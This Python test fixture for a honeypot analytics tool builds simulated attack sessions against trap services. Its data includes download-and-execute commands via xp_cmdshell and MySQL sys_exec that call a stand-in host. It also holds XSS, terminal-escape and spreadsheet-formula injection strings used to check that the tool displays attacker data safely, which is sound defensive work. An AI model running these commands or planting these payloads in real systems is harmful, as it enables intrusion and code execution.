# SPDX-License-Identifier: MIT
"""A small, hand-countable spool of service-trap events (for test_views_services.py; not collected).

Written by the sensor's own :class:`~honeyfarm.sensor.events.EventLog` and
:class:`~honeyfarm.sensor.events.SessionLog` into a real :class:`Spool` (the
records have exactly the sensor's shape, caps applied), with the clock pinned
per event, then ingested by the real pipeline with GeoIP. Fields follow the
registry's descriptions (``honeyfarm.eventids``, "Dionaea-class traps").

    conn  sensor  src_ip (country)   start (UTC)          events
    S1    svc-eu  8.8.8.8     (US)   2026-11-20 10:00:00  smb 11: SMB2 negotiate, NTLM login, svcctl, ADMIN$ upload
    S2    svc-eu  77.88.8.8   (RU)   2026-11-20 11:00:00  smb 7: SMB1 negotiate, failed login, MS17-010, DoublePulsar
    F1    svc-eu  1.1.1.1     (AU)   2026-11-20 12:00:00  ftp 6: failed + anonymous login, STOR upload
    P1    svc-eu  77.88.8.8   (RU)   2026-11-20 13:00:00  sip 5 (udp): svmap OPTIONS, svwar REGISTERs, digest login
    C1    svc-us  8.8.8.8     (US)   2026-11-20 14:00:00  catchall 3: port 8443, TLS
    S3    svc-us  77.88.8.8   (RU)   2026-11-21 09:00:00  smb 6 (139): hostile share, upload, MS17-010
    T1    svc-us  8.8.8.8     (US)   2026-11-21 10:00:00  tftp 2 (udp): WRQ upload
    M1    svc-us  5.255.255.5 (RU)   2026-11-21 11:00:00  mssql 7: login sa, xp_cmdshell, 2 more batches
    M2    svc-us  5.255.255.5 (RU)   2026-11-21 11:30:00  mssql 4: login refused (formula password)
    Y1    svc-eu  8.8.8.8     (US)   2026-11-21 12:00:00  mysql 7: login root, UDF dump, sys_exec
    P2    svc-us  1.1.1.1     (AU)   2026-11-21 14:00:00  sip 5 (tcp): hostile User-Agents and extension
    C2    svc-us  1.1.1.1     (AU)   2026-11-21 15:00:00  catchall 3: port 8443, TLS (same JA3/JA4 as C1)
    C3    svc-eu  77.88.8.8   (RU)   2026-11-21 15:30:00  catchall 3: port 3389, RDP
    C4    svc-eu  77.88.8.8   (RU)   2026-11-21 15:40:00  catchall 3: port 8080, HTTP (hostile User-Agent)
    C5    svc-eu  5.255.255.5 (RU)   2026-11-21 16:00:00  catchall 2: port 3389, no payload

Each event of a connection is one second after the previous one.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import trap_events

COUNTRY = {"8.8.8.8": "US", "1.1.1.1": "AU", "77.88.8.8": "RU", "5.255.255.5": "RU"}
SENSORS = {"svc-eu": ("eu-west-1", "ip"), "svc-us": ("us-east-1", "domain")}
SHA_WORM = "d4" * 32
SHA_PS = "e5" * 32
SHA_BOT = "f6" * 32
SHA_UDF = "a7" * 32
SMB2_OFFER = ["0x0202", "0x0210", "0x0300", "0x0302", "0x0311"]
SMB1_OFFER = ["PC NETWORK PROGRAM 1.0", "LANMAN1.0", "NT LM 0.12"]
WORM_BIN = "%COMSPEC% /C C:\\Windows\\mssecsvc.exe"
XP_LINE = "cmd /c powershell -c iwr http://203.0.113.9/a.exe -OutFile a.exe"
XP_SQL = f"EXEC master..xp_cmdshell '{XP_LINE}'"
A_EXE = "http://203.0.113.9/a.exe"
M_SH = "http://203.0.113.9/m.sh"
UDF_SQL = "SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/udf.so'"
SYS_EXEC = "SELECT sys_exec('wget http://203.0.113.9/m.sh')"
JA3 = "e7d705a3286e19ea42f587b344ee6865"
JA4 = "t13d1516h2_8daaf6152771_b186095e22b6"
# Hostile: HTML, terminal escapes (clear screen, OSC title), a bidi override, spreadsheet formulas.
HOSTILE_SHARE = "C$<img src=x onerror=window.__xss=1>\x1b[2J\u202evid.exe"
FORMULA_PATH = '=HYPERLINK("http://203.0.113.66/","open")'
HOSTILE_SQL = "SELECT '\x1b]0;pwned\x07<script>window.__xss=1</script>'"
HOSTILE_UA = "friendly-scanner \x1b]0;pwned\x07\x1b[31m<script>window.__xss=1</script>"
FORMULA_UA = '=HYPERLINK("http://203.0.113.66/","click")'
HOSTILE_EXT = "<b onmouseover=window.__xss=1>200\u202e"
FORMULA_PASSWORD = "=cmd|' /C calc'!A0"


@dataclass(frozen=True)
class Conn:
    name: str
    sensor: str
    session: str
    ip: str
    protocol: str
    port: int
    start: str
    transport: str = "tcp"


Step = tuple[str, dict[str, Any]]


def _x(eventid: str, **extra: Any) -> Step:
    return (eventid, {"extra": extra})


def _cols(eventid: str, cols: dict[str, Any], **extra: Any) -> Step:
    return (eventid, {**cols, "extra": extra})


def _closed(trap: str, reason: str = "client closed", **extra: Any) -> Step:
    return (f"{trap}.session.closed", {"duration": 3.0, "extra": {"reason": reason, **extra}})


def _sip(method: str, ua: str, to: str, scanner: str | None = None) -> Step:
    extra = {"method": method, "uri": "sip:10.9.0.1", "to": to, "from": "<sip:100@10.9.0.1>", "answer": "404"}
    if scanner:
        extra["scanner"] = scanner
    return ("sip.request.received", {"client_version": ua, "extra": extra})


def _sql(trap: str, sql: str, **extra: Any) -> Step:
    return (f"{trap}.command.input", {"command": sql, "extra": extra})


S1 = Conn("S1", "svc-eu", "5b0000000001", "8.8.8.8", "smb", 445, "2026-11-20T10:00:00")
S2 = Conn("S2", "svc-eu", "5b0000000002", "77.88.8.8", "smb", 445, "2026-11-20T11:00:00")
F1 = Conn("F1", "svc-eu", "f70000000001", "1.1.1.1", "ftp", 21, "2026-11-20T12:00:00")
P1 = Conn("P1", "svc-eu", "5e0000000001", "77.88.8.8", "sip", 5060, "2026-11-20T13:00:00", "udp")
C1 = Conn("C1", "svc-us", "ca0000000001", "8.8.8.8", "catchall", 8443, "2026-11-20T14:00:00")
S3 = Conn("S3", "svc-us", "5b0000000003", "77.88.8.8", "smb", 139, "2026-11-21T09:00:00")
T1 = Conn("T1", "svc-us", "7f0000000001", "8.8.8.8", "tftp", 69, "2026-11-21T10:00:00", "udp")
M1 = Conn("M1", "svc-us", "350000000001", "5.255.255.5", "mssql", 1433, "2026-11-21T11:00:00")
M2 = Conn("M2", "svc-us", "350000000002", "5.255.255.5", "mssql", 1433, "2026-11-21T11:30:00")
Y1 = Conn("Y1", "svc-eu", "3y0000000001", "8.8.8.8", "mysql", 3306, "2026-11-21T12:00:00")
P2 = Conn("P2", "svc-us", "5e0000000002", "1.1.1.1", "sip", 5060, "2026-11-21T14:00:00")
C2 = Conn("C2", "svc-us", "ca0000000002", "1.1.1.1", "catchall", 8443, "2026-11-21T15:00:00")
C3 = Conn("C3", "svc-eu", "ca0000000003", "77.88.8.8", "catchall", 3389, "2026-11-21T15:30:00")
C4 = Conn("C4", "svc-eu", "ca0000000004", "77.88.8.8", "catchall", 8080, "2026-11-21T15:40:00")
C5 = Conn("C5", "svc-eu", "ca0000000005", "5.255.255.5", "catchall", 3389, "2026-11-21T16:00:00")

NTLM = {"domain": "WORKGROUP", "workstation": "WIN-7", "ntlm_version": "v2", "hashcat_mode": 5600}
MSSQL_LOGIN = {"hostname": "WIN-SQL", "server_name": "10.9.0.1", "library": "ODBC", "tds_version": "0x74000004"}

CONNS: list[tuple[Conn, list[Step]]] = [
    (S1, [
        _x("smb.session.connect"),
        _x("smb.protocol.negotiate", smb_version=2, dialects=SMB2_OFFER, dialect="0x0311", security_mode=1),
        _cols("smb.login.success", {"username": "administrator"}, hashcat="administrator::WORKGROUP:1122", **NTLM),
        _x("smb.tree.connect", share="IPC$", path="\\\\10.9.0.1\\IPC$", found=True),
        _x("smb.file.open", share="IPC$", path="svcctl", pipe="svcctl"),
        _x("smb.dcerpc.bind", pipe="svcctl", uuid="367abb81-9844-35f1-ad32-98f038001003", interface="svcctl",
           version="2.0"),
        _x("smb.dcerpc.request", pipe="svcctl", interface="svcctl", opnum=15, operation="OpenSCManagerW",
           stub_size=64),
        _cols("smb.dcerpc.request", {"command": WORM_BIN}, pipe="svcctl", interface="svcctl", opnum=12,
              operation="CreateServiceW", stub_size=300),
        _x("smb.tree.connect", share="ADMIN$", path="\\\\10.9.0.1\\ADMIN$", found=True),
        _cols("smb.session.file_upload", {"sha256": SHA_WORM}, share="ADMIN$", path="mssecsvc.exe", size=3723264,
              truncated=False),
        _closed("smb", dialect="0x0311", trees=2, uploads=1),
    ]),
    (S2, [
        _x("smb.session.connect"),
        _x("smb.protocol.negotiate", smb_version=1, dialects=SMB1_OFFER, dialect="NT LM 0.12"),
        _cols("smb.login.failed", {"username": "guest"}, domain="", ntlm_version="v1", hashcat_mode=5500),
        _x("smb.tree.connect", share="IPC$", path="\\\\10.9.0.1\\IPC$", found=True),
        _x("smb.exploit.ms17-010", command="TRANS PeekNamedPipe", share="IPC$", fid=0,
           answer="STATUS_INSUFFICIENT_RESOURCES", tool="nmap smb-vuln-ms17-010"),
        _x("smb.exploit.doublepulsar", subcommand="ping", timeout="0x134ee8", answer="STATUS_NOT_IMPLEMENTED"),
        _closed("smb", dialect="NT LM 0.12", trees=1, uploads=0),
    ]),
    (F1, [
        _x("ftp.session.connect"),
        _cols("ftp.login.failed", {"username": "admin", "password": "admin"}),
        _cols("ftp.login.success", {"username": "anonymous", "password": "mozilla@example.com"}),
        _cols("ftp.command.input", {"command": "STOR bot.sh"}, verb="STOR", argument="bot.sh", reply=226),
        _cols("ftp.session.file_upload", {"sha256": SHA_BOT}, path="/pub/bot.sh", size=64, truncated=False,
              complete=True),
        _closed("ftp", commands=4, uploads=1),
    ]),
    (P1, [
        _sip("OPTIONS", "friendly-scanner", "<sip:100@10.9.0.1>", "sipvicious"),
        _sip("REGISTER", "friendly-scanner", "<sip:100@10.9.0.1>", "sipvicious"),
        _sip("REGISTER", "friendly-scanner", "<sip:101@10.9.0.1>", "sipvicious"),
        _sip("REGISTER", "friendly-scanner", "<sip:100@10.9.0.1>;tag=2", "sipvicious"),
        _cols("sip.login.failed", {"username": "100"}, realm="asterisk", nonce="abc", uri="sip:10.9.0.1",
              response="0" * 32, algorithm="MD5"),
    ]),
    (C1, [
        _x("catchall.session.connect"),
        _x("catchall.payload.received", head="\\x16\\x03\\x01", size=517, guess="tls", ja3_hash=JA3, ja4=JA4,
           sni="example.com"),
        _closed("catchall", guess="tls"),
    ]),
    (S3, [
        _x("smb.session.connect", netbios=True),
        _x("smb.protocol.negotiate", smb_version=2, dialects=SMB2_OFFER[:2], dialect="0x0210"),
        _x("smb.tree.connect", share=HOSTILE_SHARE, path="\\\\10.9.0.1\\x", found=False),
        _cols("smb.session.file_upload", {"sha256": SHA_PS}, share=HOSTILE_SHARE, path=FORMULA_PATH, size=1024,
              truncated=False),
        _x("smb.exploit.ms17-010", command="TRANS2 SESSION_SETUP", share="IPC$", fid=0,
           answer="STATUS_INSUFFICIENT_RESOURCES", tool="metasploit"),
        _closed("smb", reason="idle timeout", dialect="0x0210", trees=1, uploads=1),
    ]),
    (T1, [
        _x("tftp.request.received", opcode="wrq", filename="bins/mips", mode="octet", answer="ack"),
        _cols("tftp.session.file_upload", {"sha256": SHA_BOT}, filename="bins/mips", size=64, blocks=1, complete=True),
    ]),
    (M1, [
        _x("mssql.session.connect"),
        _x("mssql.prelogin.received", client_version="9.0.0", encryption="off"),
        _cols("mssql.login.success", {"username": "sa", "password": "P@ssw0rd", "client_version": "OSQL-32"},
              **MSSQL_LOGIN),
        _sql("mssql", XP_SQL, kind="batch", shell=[XP_LINE], urls=[A_EXE]),
        _sql("mssql", "SELECT @@version", kind="batch"),
        _sql("mssql", HOSTILE_SQL, kind="batch"),
        _closed("mssql", batches=3),
    ]),
    (M2, [
        _x("mssql.session.connect"),
        _x("mssql.prelogin.received", client_version="9.0.0", encryption="off"),
        _cols("mssql.login.failed", {"username": "sa", "password": FORMULA_PASSWORD}, **MSSQL_LOGIN),
        _closed("mssql", batches=0),
    ]),
    (Y1, [
        _x("mysql.session.connect"),
        _cols("mysql.login.success", {"username": "root", "client_version": "libmysql 5.7"},
              auth_plugin="mysql_native_password", auth_response="00ff", salt="1122"),
        _sql("mysql", "SELECT @@version", command="COM_QUERY"),
        _sql("mysql", UDF_SQL, command="COM_QUERY"),
        _cols("mysql.session.file_upload", {"sha256": SHA_UDF}, path="/usr/lib/mysql/plugin/udf.so", size=8192,
              kind="udf"),
        _sql("mysql", SYS_EXEC, command="COM_QUERY", urls=[M_SH]),
        _closed("mysql", queries=3),
    ]),
    (P2, [
        _x("sip.session.connect"),
        _sip("INVITE", HOSTILE_UA, "<sip:+4930123@10.9.0.1>"),
        _sip("OPTIONS", FORMULA_UA, "<sip:100@10.9.0.1>"),
        _cols("sip.login.failed", {"username": HOSTILE_EXT}, realm="<i>realm</i>", uri="sip:10.9.0.1",
              response="1" * 32, algorithm="MD5"),
        _closed("sip", requests=3),
    ]),
    (C2, [
        _x("catchall.session.connect"),
        _x("catchall.payload.received", size=517, guess="tls", ja3_hash=JA3, ja4=JA4, sni="printer.local"),
        _closed("catchall", guess="tls"),
    ]),
    (C3, [
        _x("catchall.session.connect"),
        _x("catchall.payload.received", size=43, guess="rdp"),
        _closed("catchall", guess="rdp"),
    ]),
    (C4, [
        _x("catchall.session.connect"),
        _cols("catchall.payload.received", {"client_version": HOSTILE_UA}, head="GET / HTTP/1.1", size=80,
              guess="http"),
        _closed("catchall", guess="http"),
    ]),
    (C5, [_x("catchall.session.connect"), _closed("catchall", reason="idle timeout")]),
]  # fmt: skip

Event = tuple[Conn, dt.datetime, str]
Pred = Callable[[Conn, dt.datetime, str], bool]


def all_events() -> list[Event]:
    return trap_events.all_events(CONNS)


def write_spool(root: Path, pred: Pred | None = None) -> int:
    """Write the events ``pred`` keeps as the sensor does, one spool per sensor under ``root``; returns how many."""
    return trap_events.write_spool(root, pred, CONNS, SENSORS)


def build_lake(root: Path, pred: Pred | None = None) -> Path:
    """The spool (or the part ``pred`` keeps) ingested with the honeyfarm format and GeoIP into ``root/lake``."""
    return trap_events.build_lake(root, pred, CONNS, SENSORS)
